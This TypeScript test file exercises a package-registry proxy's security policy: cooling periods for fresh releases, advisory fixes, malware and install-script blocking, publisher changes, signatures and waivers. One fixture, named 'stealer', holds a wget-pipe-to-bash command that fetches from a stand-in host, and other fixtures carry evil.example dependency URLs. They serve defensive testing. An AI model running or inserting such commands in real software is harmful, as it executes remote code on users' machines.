// SPDX-License-Identifier: Apache-2.0
/** The policy over an upstream's packages, through the wire: the stories it is there for. */
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { type PackageName, parseIntegrity, type Version } from '@holdfast/core'
import { defaultRules, parseRules } from '../../src/catalog/index.ts'
import { addAdvisories, applyPolicy, askWaiver, decideWaiver, previewPolicy } from '../../src/flow/index.ts'
import { operator } from '../../src/identity/index.ts'
import { readOsv } from '../../src/vulnerability/index.ts'
import { startUpstream, type UpstreamRegistry } from '../upstream-registry.ts'
import { dayMs, openWorld, type World } from '../world.ts'

async function open(
  t: TestContext,
  flags: Readonly<Record<string, string>> = {},
): Promise<{ upstream: UpstreamRegistry; world: World }> {
  const upstream = await startUpstream()
  const world = await openWorld({
    origins: JSON.stringify({ up: upstream.url }),
    routes: JSON.stringify({ '*': 'up' }),
    allowPrivateHosts: '127.0.0.1',
    ...flags,
  })
  t.after(async () => {
    assert.deepEqual(world.errors, [])
    await world.close()
    await upstream.close()
  })
  return { upstream, world }
}

const tarball = (world: World, name: string, version: string) =>
  world.npm(`GET /${name}/-/${name}-${version}.tgz`)

async function shown(world: World, name: string): Promise<{ versions: string[]; latest: string }> {
  const { body } = await world.npm(`GET /${name}`)
  return { versions: Object.keys(body.versions), latest: body['dist-tags'].latest }
}

const set = (world: World, ...rules: unknown[]) => {
  world.advance(1000)
  return applyPolicy(world.ports, operator, parseRules(rules))
}

/** An advisory as the feed tells it. */
function osv(world: World, id: string, name: string, events: readonly object[], ageDays = 0) {
  const time = (at: number) => new Date(at).toISOString()
  const reading = readOsv({
    id,
    published: time(world.now() - ageDays * dayMs),
    modified: time(world.now()),
    summary: 'a test',
    affected: [{ package: { ecosystem: 'npm', name }, ranges: [{ type: 'SEMVER', events }] }],
  })
  assert.ok(reading.kind === 'read')
  return reading.advisories
}

/** Has it fetched until its bytes are kept. */
async function bringIn(world: World, name: string, version: string): Promise<void> {
  const kept = () => world.ports.store.mirrors.findIngested(name as PackageName, version as Version)
  do assert.equal((await tarball(world, name, version)).status, 200)
  while ((await kept()) === undefined)
}

test('a release of today is hidden for three days, and then there without anybody doing anything', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0')
  upstream.publish('lib', '1.1.0', { publishedAt: world.now() - dayMs })
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
  const refused = await tarball(world, 'lib', '1.1.0')
  assert.equal(refused.status, 403)
  assert.equal(refused.body.code, 'version-cooling')
  assert.match(
    refused.body.error,
    /passes at 2026-01-07T09:00:00\.000Z \(rule release-age\)\. Allowed instead: 1\.0\.0/,
  )
  assert.equal((await world.npm('GET /lib/1.1.0')).status, 403)
  assert.ok(!upstream.asked.some(({ line }) => line.endsWith('1.1.0.tgz')), 'nothing of it was fetched')
  world.advance(2 * dayMs + 1)
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0', '1.1.0'], latest: '1.1.0' })
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
})

test('the fix of a known flaw is there at once when the feed names it, and a later version is not', async t => {
  const { upstream, world } = await open(t)
  const by = { _npmUser: { name: 'maintainer', email: 'm@people.example' } }
  upstream.publish('lib', '1.0.0', { manifest: by })
  upstream.publish('lib', '1.0.1', { manifest: by, publishedAt: world.now() - 3600_000 })
  upstream.publish('lib', '1.0.2', { manifest: by, publishedAt: world.now() - 1800_000 })
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', 'lib', [{ introduced: '0' }, { fixed: '1.0.1' }])
  await addAdvisories(world.ports, operator, flaw, [])
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0', '1.0.1'])
  assert.equal((await tarball(world, 'lib', '1.0.1')).status, 200)
  assert.equal((await tarball(world, 'lib', '1.0.2')).status, 403)
})

test('a fix that brings something new along is no fix, by whatever door that comes', async t => {
  const { upstream, world } = await open(t)
  const _npmUser = { name: 'maintainer', email: 'm@people.example' }
  const doors = {
    alias: { dependencies: { a: 'npm:evil@1' } },
    address: { dependencies: { a: 'https://evil.example/a.tgz' } },
    repository: { dependencies: { a: 'evil/a' } },
    peer: { dependencies: { a: '^1.0.0' }, peerDependencies: { b: '*' } },
  }
  for (const [name, door] of Object.entries({ ...doors, none: { dependencies: { a: '^1.2.0' } } })) {
    upstream.publish(name, '1.0.0', { manifest: { _npmUser, dependencies: { a: '^1.0.0' } } })
    upstream.publish(name, '1.0.1', { manifest: { _npmUser, ...door }, publishedAt: world.now() - 3600_000 })
    const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', name, [{ introduced: '0' }, { fixed: '1.0.1' }])
    await addAdvisories(world.ports, operator, flaw, [])
  }
  for (const name of Object.keys(doors))
    assert.deepEqual((await shown(world, name)).versions, ['1.0.0'], name)
  assert.deepEqual((await shown(world, 'none')).versions, ['1.0.0', '1.0.1'])
})

test('a fix that screening warns of is shown until its bytes came in, and not one of them goes out; a waiver lets it in', async t => {
  const { upstream, world } = await open(t)
  const stealer = { 'index.js': "require('child_process').exec('wget -qO- https://drop.example/x | bash')" }
  const _npmUser = { name: 'maintainer', email: 'm@people.example' }
  upstream.publish('lib', '1.0.0', { manifest: { _npmUser } })
  const fresh = { manifest: { _npmUser }, files: stealer, publishedAt: world.now() - 3600_000 }
  upstream.publish('lib', '1.0.1', fresh)
  const watching = defaultRules.map(rule => (rule.kind === 'screening' ? { ...rule, mode: 'monitor' } : rule))
  await set(world, ...watching)
  const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', 'lib', [{ introduced: '0' }, { fixed: '1.0.1' }])
  await addAdvisories(world.ports, operator, flaw, [])
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0', '1.0.1'])
  const refused = await tarball(world, 'lib', '1.0.1')
  assert.deepEqual([refused.status, refused.body.code], [403, 'version-cooling'])
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
  const subject = { name: 'lib' as PackageName, version: '1.0.1' as Version }
  const { id } = await askWaiver(world.ports, operator, subject, 'looked at it')
  await decideWaiver(world.ports, operator, id, { kind: 'grant', days: 1, words: '' })
  assert.equal((await tarball(world, 'lib', '1.0.1')).status, 200)
})

test('packages of one scope that are released with a fix pass with it, and strangers of the scope do not', async t => {
  const { upstream, world } = await open(t)
  const by = (name: string) => ({ _npmUser: { name, email: `${name}@people.example` } })
  const at = world.now() - 3600_000
  for (const name of ['@acme/core', '@acme/parser', '@acme/stolen', '@acme/later', '@other/core'])
    upstream.publish(name, '1.2.3', { manifest: by('ann') })
  upstream.publish('@acme/core', '1.2.4', { manifest: by('ann'), publishedAt: at })
  upstream.publish('@acme/parser', '1.2.4', { manifest: by('ann'), publishedAt: at })
  upstream.publish('@acme/stolen', '1.2.4', { manifest: by('thief'), publishedAt: at })
  upstream.publish('@acme/later', '1.2.5', { manifest: by('ann'), publishedAt: at })
  upstream.publish('@other/core', '1.2.4', { manifest: by('ann'), publishedAt: at })
  const flaw = osv(world, 'GHSA-aaaa-bbbb-cccc', '@acme/core', [{ introduced: '0' }, { fixed: '1.2.4' }])
  await addAdvisories(world.ports, operator, flaw, [])
  for (const name of ['@acme/core', '@acme/parser'])
    assert.deepEqual((await shown(world, name)).versions, ['1.2.3', '1.2.4'], name)
  for (const name of ['@acme/stolen', '@acme/later', '@other/core'])
    assert.deepEqual((await shown(world, name)).versions, ['1.2.3'], name)
})

test('an old advisory opens the way for nobody who publishes what it names', async t => {
  const { upstream, world } = await open(t)
  const by = { _npmUser: { name: 'thief', email: 't@people.example' } }
  upstream.publish('lib', '1.0.0', { manifest: by })
  const old = osv(world, 'GHSA-dddd-eeee-ffff', 'lib', [{ introduced: '0' }, { fixed: '1.0.1' }], 400)
  await addAdvisories(world.ports, operator, old, [])
  await world.npm('GET /lib')
  upstream.publish('lib', '1.0.1', { manifest: by, publishedAt: world.now() })
  world.advance(1000)
  await world.ports.mirrors.refresh('lib' as PackageName, 'up')
  const touched = osv(world, 'GHSA-dddd-eeee-ffff', 'lib', [{ introduced: '0' }, { fixed: '1.0.1' }], 400)
  await addAdvisories(world.ports, operator, touched, [])
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  assert.equal((await tarball(world, 'lib', '1.0.1')).status, 403)
})

test('malware that becomes known is stopped at once, though it was installed before, by name and by bytes', async t => {
  const { upstream, world } = await open(t)
  for (const version of ['1.0.0', '1.0.1', '1.0.2']) upstream.publish('lib', version)
  for (const version of ['1.0.0', '1.0.1', '1.0.2'])
    assert.equal((await tarball(world, 'lib', version)).status, 200)
  const digest = parseIntegrity((await world.npm('GET /lib')).body.versions['1.0.2'].dist.integrity)
  assert.ok(digest !== undefined)
  const malware = osv(world, 'MAL-2026-1', 'lib', [{ introduced: '1.0.1' }, { fixed: '1.0.2' }])
  await addAdvisories(world.ports, operator, malware, [{ digest, why: 'the same thing again' }])
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
  assert.match((await tarball(world, 'lib', '1.0.1')).body.error, /MAL-2026-1/)
  assert.match((await tarball(world, 'lib', '1.0.2')).body.error, /the same thing again/)
})

test('a rule is carried out on cached content within a second, and spares what was installed before it came', async t => {
  const { upstream, world } = await open(t)
  const script = { manifest: { scripts: { postinstall: 'node x.js' } } }
  for (const version of ['1.0.0', '1.1.0']) upstream.publish('lib', version, script)
  await shown(world, 'lib')
  assert.equal((await tarball(world, 'lib', '1.0.0')).status, 200)
  await set(world, { kind: 'install-script', mode: 'enforce' })
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403)
  const subject = { name: 'lib' as PackageName, version: '1.1.0' as Version }
  const { id } = await askWaiver(world.ports, operator, subject, 'needed')
  await decideWaiver(world.ports, operator, id, { kind: 'grant', days: 1, words: '' })
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0', '1.1.0'])
  world.advance(dayMs)
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403)
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
})

test('a preview hides nothing that the rule would spare, though it was fetched in this very moment', async t => {
  const { upstream, world } = await open(t)
  for (const version of ['1.0.0', '1.1.0'])
    upstream.publish('lib', version, { manifest: { scripts: { postinstall: 'node x.js' } } })
  await set(world, { kind: 'install-script', mode: 'enforce', packages: ['else'] })
  assert.equal((await tarball(world, 'lib', '1.0.0')).status, 200)
  await world.ports.downloads.flush()
  const wider = parseRules([{ kind: 'install-script', mode: 'enforce' }])
  const preview = await previewPolicy(world.ports, wider)
  assert.deepEqual(
    [preview.usedVersions, preview.hidden.length, preview.hits.get('install-script')],
    [1, 0, 1],
  )
  world.advance(1)
  await applyPolicy(world.ports, operator, wider)
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  world.advance(1000)
  const exact = parseRules([{ kind: 'deny', packages: ['lib'], versions: '1.0.0', mode: 'enforce' }])
  assert.deepEqual(
    (await previewPolicy(world.ports, exact)).hidden.map(
      each => `${each.package}@${each.version} ${each.rule}`,
    ),
    ['lib@1.0.0 deny'],
  )
})

test('a waiver lifts what closed a version when it was asked, and nothing that becomes known later', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0')
  upstream.publish('lib', '1.1.0', { publishedAt: world.now() - 3600_000 })
  const severe = { kind: 'advisory', severity: 'high', action: 'block', mode: 'enforce' }
  await set(world, { kind: 'release-age', days: 3, mode: 'enforce' }, severe)
  const subject = { name: 'lib' as PackageName, version: '1.1.0' as Version }
  const waive = async () => {
    const { id, rules } = await askWaiver(world.ports, operator, subject, 'needed today')
    await decideWaiver(world.ports, operator, id, { kind: 'grant', days: 30, words: '' })
    return rules
  }
  assert.deepEqual(await waive(), ['release-age'])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
  const [flaw] = osv(world, 'GHSA-aaaa-bbbb-cccc', 'lib', [{ introduced: '1.1.0' }])
  assert.ok(flaw !== undefined)
  await addAdvisories(world.ports, operator, [{ ...flaw, severity: 'critical' }], [])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403)
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  assert.deepEqual(await waive(), ['advisory'])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
  const again = { ...flaw, id: 'CVE-2026-1', aliases: [flaw.id], severity: 'critical' } as const
  await addAdvisories(world.ports, operator, [again], [])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200, 'the same under another name')
  const [other] = osv(world, 'GHSA-dddd-eeee-ffff', 'lib', [{ introduced: '1.1.0' }])
  assert.ok(other !== undefined)
  await addAdvisories(world.ports, operator, [{ ...other, severity: 'critical' }], [])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403, 'a flaw that nobody looked at')
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  assert.deepEqual(await waive(), ['advisory'])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
})

test('what the upstream says later closes a tarball that was let out before, wherever it is remembered', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0')
  upstream.publish('lib', '1.1.0')
  await set(world, { kind: 'deprecated', action: 'block', mode: 'enforce' })
  await bringIn(world, 'lib', '1.1.0')
  for (let time = 0; time < 3; time++) assert.equal((await tarball(world, 'lib', '1.1.0')).status, 200)
  upstream.documents.get('lib').versions['1.1.0'].deprecated = 'use lib2'
  world.advance(6 * 60_000)
  await world.ports.mirrors.refresh('lib' as PackageName, 'up')
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0'])
  assert.equal((await tarball(world, 'lib', '1.1.0')).status, 403)
})

test('an old version that its upstream lacked for a moment is not young when it is back', async t => {
  const { upstream, world } = await open(t)
  for (const version of ['1.0.0', '1.1.0']) upstream.publish('lib', version)
  await bringIn(world, 'lib', '1.0.0')
  const { versions } = upstream.documents.get('lib')
  const { '1.0.0': old, ...others } = versions
  for (const told of [others, { '1.0.0': old, ...others }]) {
    // Shorter than what makes anybody look for what was withdrawn.
    world.advance(1000)
    upstream.documents.get('lib').versions = told
    await world.ports.mirrors.refresh('lib' as PackageName, 'up')
  }
  assert.equal((await tarball(world, 'lib', '1.0.0')).status, 200)
  assert.deepEqual((await shown(world, 'lib')).versions, ['1.0.0', '1.1.0'])
})

test('a package that changes hands is held, and a broken signature is not let in', async t => {
  const { upstream, world } = await open(t)
  const by = (name: string) => ({ manifest: { _npmUser: { name, email: `${name}@people.example` } } })
  const at = (days: number) => ({ publishedAt: world.now() - days * dayMs })
  upstream.publish('event-stream', '3.3.4', { ...by('dominic'), ...at(900) })
  upstream.publish('event-stream', '3.3.6', { ...by('right9ctrl'), ...at(20) })
  upstream.publish('broken', '1.0.0', at(900))
  const signatures = upstream.sign('broken@1.0.1:sha512-other')
  upstream.publish('broken', '1.0.1', { ...at(800), dist: { signatures } })
  await set(
    world,
    ...defaultRules.map(rule => (rule.kind === 'publisher-change' ? { ...rule, mode: 'enforce' } : rule)),
  )
  assert.deepEqual((await shown(world, 'event-stream')).versions, ['3.3.4'])
  const held = await tarball(world, 'event-stream', '3.3.6')
  assert.equal(held.body.code, 'version-held')
  assert.match(held.body.error, /right9ctrl published it/)
  assert.equal((await tarball(world, 'broken', '1.0.1')).status, 403)
  assert.match((await tarball(world, 'broken', '1.0.1')).body.error, /signature does not match/)
  assert.equal((await tarball(world, 'broken', '1.0.0')).status, 200)
})

test('a build that npm runs because of a binding.gyp is an install script, though the record names none', async t => {
  const { upstream, world } = await open(t)
  const files = { 'binding.gyp': '{}' }
  upstream.publish('lib', '1.0.0')
  upstream.publish('lib', '1.1.0', { files, publishedAt: world.now() - 5 * dayMs })
  await set(world, { kind: 'install-script', mode: 'enforce' })
  const refused = await tarball(world, 'lib', '1.1.0')
  assert.equal(refused.status, 403)
  assert.match(refused.body.error, /runs code of its own when it is installed \(rule install-script\)/)
  assert.deepEqual(await shown(world, 'lib'), { versions: ['1.0.0'], latest: '1.0.0' })
})

test('where provenance is required, what tells nothing of its build is closed', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0')
  await set(world, { kind: 'provenance', demand: 'required', mode: 'enforce' })
  const refused = await tarball(world, 'lib', '1.0.0')
  assert.equal(refused.status, 403)
  assert.match(refused.body.error, /nothing tells where it was built/)
})

test('lists: denied names, nothing but what is allowed, nothing that nobody uses', async t => {
  const folder = await mkdtemp(join(tmpdir(), 'holdfast-'))
  t.after(() => rm(folder, { recursive: true }))
  const popularNames = join(folder, 'names.txt')
  await writeFile(popularNames, 'lib 1000000\nother 900\n')
  const { upstream, world } = await open(t, { popularNames })
  for (const name of ['lib', 'libb', 'other']) upstream.publish(name, '1.0.0')
  await set(
    world,
    { kind: 'unpopular', mode: 'enforce' },
    { kind: 'deny', packages: ['other'], mode: 'enforce' },
  )
  const status = async (name: string) => (await tarball(world, name, '1.0.0')).status
  assert.deepEqual([await status('lib'), await status('libb'), await status('other')], [200, 403, 403])
  await set(world, { kind: 'allow-only', packages: ['other'], mode: 'enforce' })
  assert.deepEqual([await status('lib'), await status('libb'), await status('other')], [200, 403, 200])
})

test('what rules only watch stays open, and is told', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0', { manifest: { scripts: { install: 'x' }, deprecated: 'use another' } })
  const { body } = await world.ask('GET /api/v1/why/npm/lib/1.0.0')
  assert.equal(body.served, true)
  assert.deepEqual(body.hits.map((hit: { rule: string; spared?: string }) => [hit.rule, hit.spared]).sort(), [
    ['deprecated', 'monitor'],
    ['install-script', 'monitor'],
  ])
})

test('the page of an upstream package shows every version with its verdict, and a stranger nothing of ours', async t => {
  const { upstream, world } = await open(t)
  upstream.publish('lib', '1.0.0')
  upstream.publish('lib', '1.1.0', { publishedAt: world.now() - dayMs })
  const page = await world.ask('GET /package/npm/lib?show=versions')
  assert.equal(page.status, 200)
  assert.match(
    page.text,
    /1 version cannot be installed[\s\S]*href="\/why\/npm\/lib\/1\.1\.0"[\s\S]*younger than 3 days/,
  )
  const lead = await world.ask('GET /why/npm/lib')
  assert.equal(lead.headers.get('location'), '/package/npm/lib?show=versions')
  assert.equal((await world.ask('GET /package/npm/no-such')).status, 404)
  upstream.publish('<b>', '1.0.0')
  assert.ok([400, 404].includes((await world.ask('GET /package/npm/%3Cb%3E')).status))
})
